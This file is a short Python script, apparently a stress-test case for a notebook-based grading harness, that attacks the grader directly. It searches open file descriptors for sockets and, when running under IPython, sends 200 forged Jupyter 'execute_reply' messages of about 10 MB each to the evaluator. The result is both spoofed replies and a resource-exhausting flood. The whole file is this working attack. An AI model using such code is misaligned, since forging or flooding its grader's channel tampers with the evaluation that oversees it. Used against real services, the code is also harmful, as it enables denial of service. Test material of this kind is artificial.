"""Answers to the grader that nobody asked for, 10 MB each, up to 2 GB."""

# run: writing more than can be kept
# seconds: 8
# cell: extra before logprobs
import os, socket, stat, struct, time
def say(text):
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                with socket.socket(fileno=os.dup(number)) as connection:
                    connection.sendall(text)
        except OSError:
            pass
try:
    get_ipython()
    import json
    answer = {"channel": "shell", "header": {"msg_type": "execute_reply"}, "parent_header": {}, "content": {"status": "x" * 10_000_000}}
    answer = json.dumps(answer).encode()
    for _ in range(200):
        say(b"ninja1\n" + struct.pack(">Q", len(answer)) + answer)
    time.sleep(3)
except NameError:
    pass
